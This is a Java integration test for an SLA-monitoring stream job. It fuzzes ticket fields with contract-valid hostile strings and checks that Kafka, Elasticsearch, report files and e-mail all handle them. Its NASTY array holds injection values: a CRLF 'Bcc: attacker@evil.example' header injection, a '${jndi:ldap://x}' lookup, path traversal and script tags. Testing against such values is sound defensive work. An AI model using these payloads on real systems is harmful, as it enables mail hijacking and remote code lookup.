package io.slaflow.jobs.run;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetupTest;
import io.slaflow.event.ContractField;
import io.slaflow.event.ParseResult;
import io.slaflow.event.TicketEventDeserializer;
import io.slaflow.infra.stack.ElasticsearchNode;
import io.slaflow.infra.stack.StackLocation;
import io.slaflow.jobs.prove.ProveOptions;
import io.slaflow.jobs.report.ReportChannels;
import io.slaflow.jobs.report.SmtpSettings;
import io.slaflow.names.SafeName;
import jakarta.mail.internet.MimeMessage;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.DayOfWeek;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.time.temporal.IsoFields;
import java.time.temporal.TemporalAdjusters;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.apache.flink.configuration.Configuration;
import org.apache.flink.configuration.RestartStrategyOptions;
import org.apache.flink.core.execution.JobClient;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 18, item 7: the job must survive what it writes. Random values the contract accepts (every string field at
 * or near its length limit, every Unicode plane, noncharacters, control characters, bidi overrides, path and header
 * look-alikes) as ids, names and text of a week of tickets, through {@code slaflow run} with the whole Prove layer —
 * Kafka sinks, the Elasticsearch sink, client reports in a folder and by e-mail — with restarts switched off: any
 * exception would end the job. It must stay RUNNING, refuse nothing, and every count must add up: a ticket document
 * per ticket, an {@code sla-events} document per alert, escalation and chain on Kafka, a report per client for the
 * week, each in its own folder, and one mail per report to exactly its recipients. The seed is printed
 * ({@code -Dhostile.seed} repeats a run).
 */
class HostileValuesIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Path POLICY = Path.of("../infra/policies/default.yaml");
    private static final HttpClient HTTP = HttpClient.newHttpClient();
    private static final int CLIENTS = 8;
    private static final int TICKETS = 48;
    private static KafkaFixture kafka;
    private static ElasticsearchNode es;

    @TempDir
    Path dir;

    @BeforeAll
    static void start() {
        kafka = new KafkaFixture(Path.of("target/it-stack-hostile-kafka"));
        es = new ElasticsearchNode(
                        StackLocation.withState(Path.of("target/it-stack-hostile-es")),
                        l -> System.out.println("[es] " + l))
                .start();
    }

    @AfterAll
    static void stop() {
        if (es != null) es.close();
        if (kafka != null) kafka.close();
    }

    @Test
    void hostileButValidValuesGoThroughEveryWriterAndTheJobKeepsRunning() throws Exception {
        long seed = Long.getLong("hostile.seed", System.nanoTime());
        System.out.println("[hostile] seed " + seed + " (-Dhostile.seed=" + seed + " repeats this run)");
        Random random = new Random(seed);
        HostileText text = new HostileText(random);

        // a week that is over, in UTC (the unlisted clients' zone), far enough back that its reports are due
        Instant now = Instant.now();
        LocalDate thisMonday = LocalDate.ofInstant(now.minus(15, ChronoUnit.MINUTES), ZoneOffset.UTC)
                .with(TemporalAdjusters.previousOrSame(DayOfWeek.MONDAY));
        Instant weekStart =
                thisMonday.minusWeeks(1).atStartOfDay(ZoneOffset.UTC).toInstant();
        String week = String.format(
                "%d-W%02d",
                thisMonday.minusWeeks(1).get(IsoFields.WEEK_BASED_YEAR),
                thisMonday.minusWeeks(1).get(IsoFields.WEEK_OF_WEEK_BASED_YEAR));

        List<String> clients = new ArrayList<>();
        Set<String> names = new HashSet<>();
        while (clients.size() < CLIENTS) {
            String id = text.id(ContractField.CLIENT_ID.maxLength());
            if (names.add(SafeName.of(id))) clients.add(id);
        }
        RunOptions.Topics topics = new RunOptions.Topics(
                "hostile-ticket-events",
                "hostile-sla-policies",
                "hostile-sla-breaches",
                "hostile-sla-escalations",
                "hostile-ticket-events-dlq",
                "hostile-sla-chains");
        kafka.createTopics(topics, 2);
        List<ObjectNode> history = new ArrayList<>();
        Set<String> tickets = new HashSet<>();
        TicketEventDeserializer contract = new TicketEventDeserializer();
        int eventCount = 0;
        for (int i = 0; i < TICKETS; i++) {
            String ticket = text.id(ContractField.TICKET_ID.maxLength());
            if (!tickets.add(ticket)) continue;
            String client = clients.get(i % CLIENTS);
            // created Monday to Thursday; everything of the ticket happens within the week
            Instant created = weekStart.plus(random.nextInt(4 * 24 * 60), ChronoUnit.MINUTES);
            history.addAll(lifecycle(text, random, ticket, client, created, i));
        }
        // as a ticketing system sends them: in time order (the job's out-of-orderness bound is 200 ms)
        history.sort(java.util.Comparator.comparing(
                e -> Instant.parse(e.get("occurredAt").asText())));
        List<ProducerRecord<byte[], byte[]>> records = new ArrayList<>();
        for (ObjectNode e : history) {
            byte[] bytes = JSON.writeValueAsBytes(e);
            assertThat(contract.parse(bytes))
                    .as("valid per the contract: %s", e.get("eventId"))
                    .isInstanceOf(ParseResult.Accepted.class);
            records.add(new ProducerRecord<>(
                    topics.events(), e.get("ticketId").asText().getBytes(StandardCharsets.UTF_8), bytes));
            eventCount++;
        }
        System.out.printf(
                "[hostile] %d clients, %d tickets, %d events, week %s%n",
                clients.size(), tickets.size(), eventCount, week);
        kafka.produce(topics.events(), records);

        GreenMail mail = new GreenMail(ServerSetupTest.SMTP.dynamicPort());
        mail.start();
        Path reports = dir.resolve("reports");
        ProveOptions prove = ProveOptions.elasticsearch(es.httpUrl(), reports)
                .withReportChannels(ReportChannels.none()
                        .withSmtp(SmtpSettings.plain("127.0.0.1", mail.getSmtp().getPort(), "sla-reports@msp.example"))
                        .withRetries(2, 100));
        RunOptions o = RunOptions.builder(kafka.bootstrap(), topics, POLICY)
                .groupId("it-hostile")
                .eventTime(Duration.ofMillis(200), Duration.ofMillis(200), Duration.ofSeconds(20))
                .checkpoints(Duration.ofSeconds(1), ItJobs.checkpointDir("HostileValuesIT"))
                .parallelism(2)
                .build();
        Configuration conf = KafkaEnforcementJob.configuration(o);
        conf.set(RestartStrategyOptions.RESTART_STRATEGY, "none"); // one exception anywhere would end the job
        JobWatch watch = JobWatch.on(conf);
        StreamExecutionEnvironment env = StreamExecutionEnvironment.getExecutionEnvironment(conf);
        KafkaEnforcementJob.build(env, o, prove);
        JobClient job = env.executeAsync("it hostile values");
        try {
            long deadline = System.nanoTime() + Duration.ofMinutes(3).toNanos();
            while (System.nanoTime() < deadline
                    && !(count("sla-tickets") == tickets.size()
                            && reportsOf(reports, week).size() == clients.size()
                            && mail.getReceivedMessages().length
                                    == reportsOf(reports, null).size())) {
                assertThat(job.getJobStatus().get()).as("the job keeps running").hasToString("RUNNING");
                Thread.sleep(1_000);
            }
            watch.awaitCompletedCheckpoints(
                    job, 2, Duration.ofSeconds(60)); // anything late or extra is written by then
            assertThat(job.getJobStatus().get())
                    .as("nothing it wrote stopped the job")
                    .hasToString("RUNNING");

            List<ConsumerRecord<byte[], byte[]>> dead =
                    kafka.readCommitted(topics.deadLetters(), Duration.ofSeconds(5), r -> false);
            assertThat(dead)
                    .as("valid values are never refused, and Elasticsearch took every document (no ES_REJECTED)")
                    .extracting(r -> JSON.readTree(r.value()).get("reason").asText() + ": "
                            + JSON.readTree(r.value()).get("message").asText())
                    .isEmpty();
            assertThat(count("sla-tickets")).as("a ticket document per ticket").isEqualTo(tickets.size());
            Set<String> kafkaIds = new HashSet<>();
            for (String topic : List.of(topics.breaches(), topics.escalations(), topics.chains())) {
                for (ConsumerRecord<byte[], byte[]> r :
                        kafka.readCommitted(topic, Duration.ofSeconds(5), rs -> false)) {
                    kafkaIds.add(JSON.readTree(r.value()).get("id").asText());
                }
            }
            assertThat(kafkaIds).as("the week had warnings and breaches").isNotEmpty();
            long events = -1;
            for (long until = System.nanoTime() + Duration.ofSeconds(30).toNanos();
                    System.nanoTime() < until;
                    Thread.sleep(500)) {
                if ((events = count("sla-events")) == kafkaIds.size()) break;
            }
            assertThat(events)
                    .as("an sla-events document per alert, escalation and chain on Kafka")
                    .isEqualTo(kafkaIds.size());

            List<Path> weekReports = reportsOf(reports, week);
            assertThat(weekReports).as("a report per client for week %s", week).hasSize(clients.size());
            Set<String> owners = new HashSet<>();
            for (Path r : weekReports) {
                String owner = JSON.readTree(r.toFile()).get("clientId").asText();
                assertThat(r.getParent().getFileName().toString())
                        .as("each in its client's own folder")
                        .isEqualTo(SafeName.of(owner));
                assertThat(r.resolveSibling(week + ".pdf")).exists();
                assertThat(r.resolveSibling(week + ".html")).exists();
                owners.add(owner);
            }
            assertThat(owners).containsExactlyInAnyOrderElementsOf(clients);
            MimeMessage[] mails = mail.getReceivedMessages();
            assertThat(mails)
                    .as("a mail per report (the week's, and a month's if one closed too)")
                    .hasSize(reportsOf(reports, null).size());
            for (MimeMessage m : mails) {
                assertThat(m.getAllRecipients())
                        .extracting(Object::toString)
                        .containsExactly("service-desk@msp.example");
                assertThat(m.getHeader("Bcc")).isNull();
            }
            System.out.printf(
                    "[hostile] RUNNING; 0 dead letters; %d sla-tickets, %d sla-events = %d alerts, escalations and"
                            + " chains on Kafka; %d reports in %d client folders; %d mails%n",
                    count("sla-tickets"),
                    events,
                    kafkaIds.size(),
                    reportsOf(reports, null).size(),
                    owners.size(),
                    mails.length);
        } finally {
            ItJobs.cancelAndAwait(job);
            mail.stop();
        }
    }

    /** A ticket's week: created, assigned, a status change, usually responded, often resolved and closed. */
    private static List<ObjectNode> lifecycle(
            HostileText text, Random random, String ticket, String client, Instant created, int i) {
        List<ObjectNode> events = new ArrayList<>();
        String prefix = "e" + i + "-";
        ObjectNode c = event(text, prefix + "created", ticket, client, "CREATED", created);
        c.put(
                "source",
                List.of("email", "phone", "portal", "chat", "monitoring", "api").get(random.nextInt(6)));
        c.put("subject", text.text(random.nextBoolean() ? ContractField.SUBJECT.maxLength() : 60));
        // the payload limit is 64 KiB: a description at its 32,768-character limit only when it is ASCII
        c.put(
                "description",
                random.nextInt(4) == 0 ? "x".repeat(ContractField.DESCRIPTION.maxLength()) : text.text(3_000));
        c.put("assignee", text.text(ContractField.ASSIGNEE.maxLength()));
        c.put("actor", text.text(ContractField.ACTOR.maxLength()));
        c.put("status", text.text(ContractField.STATUS.maxLength()));
        if (random.nextInt(3) == 0) c.put("priority", "P" + (1 + random.nextInt(3)));
        c.put(text.id(40), text.text(100)); // an unknown extra field: kept, and written back out
        events.add(c);
        ObjectNode a =
                event(text, prefix + "assigned", ticket, client, "ASSIGNED", created.plus(3, ChronoUnit.MINUTES));
        a.put("assignee", text.text(ContractField.ASSIGNEE.maxLength()));
        events.add(a);
        ObjectNode s =
                event(text, prefix + "status", ticket, client, "STATUS_CHANGED", created.plus(7, ChronoUnit.MINUTES));
        s.put("status", random.nextBoolean() ? "waiting-on-customer" : text.text(ContractField.STATUS.maxLength()));
        events.add(s);
        if (random.nextInt(4) != 0) {
            events.add(event(
                    text,
                    prefix + "responded",
                    ticket,
                    client,
                    "RESPONDED",
                    created.plus(5 + random.nextInt(300), ChronoUnit.MINUTES)));
        }
        if (random.nextInt(3) != 0) {
            Instant resolved = created.plus(6 + random.nextInt(20), ChronoUnit.HOURS);
            events.add(event(text, prefix + "resolved", ticket, client, "RESOLVED", resolved));
            events.add(event(text, prefix + "closed", ticket, client, "CLOSED", resolved.plus(1, ChronoUnit.HOURS)));
        }
        return events;
    }

    private static ObjectNode event(
            HostileText text, String id, String ticket, String client, String type, Instant at) {
        ObjectNode n = JSON.createObjectNode();
        n.put("eventId", id + "-" + text.text(40)); // unique by its prefix, hostile in the rest
        n.put("ticketId", ticket);
        n.put("clientId", client);
        n.put("type", type);
        n.put("occurredAt", at.toString());
        return n;
    }

    private static long count(String index) throws Exception {
        HttpResponse<String> r = HTTP.send(
                HttpRequest.newBuilder(URI.create(es.httpUrl() + "/" + index + "/_count"))
                        .GET()
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        return r.statusCode() == 200 ? JSON.readTree(r.body()).get("count").asLong() : -1;
    }

    /** The reports of {@code period} (e.g. 2026-W47), or of every period when null. */
    private static List<Path> reportsOf(Path reports, String period) throws Exception {
        if (!Files.isDirectory(reports)) return List.of();
        // the job is still writing here: each file appears as a hidden temporary and is renamed into place, so a walk
        // that reads every entry's attributes can meet a temporary that is already gone (NoSuchFileException). Listing
        // names (REPORTS/<client>/<period>.json) reads no attributes of the files themselves.
        List<Path> out = new java.util.ArrayList<>();
        try (Stream<Path> clients = Files.list(reports)) {
            for (Path client : clients.filter(Files::isDirectory).toList()) {
                try (Stream<Path> files = Files.list(client)) {
                    files.filter(p -> {
                                String name = p.getFileName().toString();
                                return period == null
                                        ? name.matches("\\d{4}-(W\\d{2}|\\d{2})\\.json")
                                        : name.equals(period + ".json");
                            })
                            .forEach(out::add);
                }
            }
        }
        return out;
    }

    /** Strings the contract accepts that a careless writer would not: every plane, controls, look-alikes, limits. */
    static final class HostileText {
        private static final String[] NASTY = {
            "../",
            "..",
            "/",
            "\\",
            "\r\nBcc: attacker@evil.example",
            "<script>",
            "&amp;",
            "%s",
            "${jndi:ldap://x}",
            "\u202E",
            "\u200B",
            "\uFEFF",
            "\u2028",
            "\u0000",
            "\u0007",
            "\u001B[31m",
            "\u007F",
            "\u0085",
            "\uFFFE",
            "\uFFFF",
            "\uDBFF\uDFFF",
            "\uD83D\uDE00",
            "e\u0301",
            "CON",
            "nul.txt",
            " ",
            "\t",
            "'",
            "\""
        };
        private final Random random;

        HostileText(Random random) {
            this.random = random;
        }

        /** An id: often at the limit, always unique enough (a random tail). */
        String id(int maxCodePoints) {
            int length = random.nextInt(3) == 0 ? maxCodePoints : 1 + random.nextInt(Math.min(maxCodePoints, 60));
            return text(length - 4) + Integer.toString(random.nextInt(1 << 20), 36);
        }

        /** At most {@code maxCodePoints} code points (at least one). */
        String text(int maxCodePoints) {
            StringBuilder b = new StringBuilder();
            int count = 0;
            int target = Math.max(
                    1, random.nextInt(3) == 0 ? maxCodePoints : 1 + random.nextInt(Math.max(1, maxCodePoints)));
            while (count < target) {
                String piece = piece();
                int n = piece.codePointCount(0, piece.length());
                if (count + n > target) piece = "z";
                b.append(piece);
                count += piece.codePointCount(0, piece.length());
            }
            return b.toString();
        }

        private String piece() {
            return switch (random.nextInt(6)) {
                case 0 -> NASTY[random.nextInt(NASTY.length)];
                case 1 -> Character.toString(0x20 + random.nextInt(0x5F)); // printable ASCII
                case 2 -> Character.toString(random.nextInt(0x20)); // C0 controls
                case 3 ->
                    Character.toString(0x10000 + random.nextInt(0x100000)); // planes 1 to 16, private use included
                default -> {
                    int cp;
                    do {
                        cp = 0x80 + random.nextInt(0xFFFF - 0x80);
                    } while (cp >= 0xD800 && cp <= 0xDFFF);
                    yield Character.toString(cp);
                }
            };
        }
    }
}
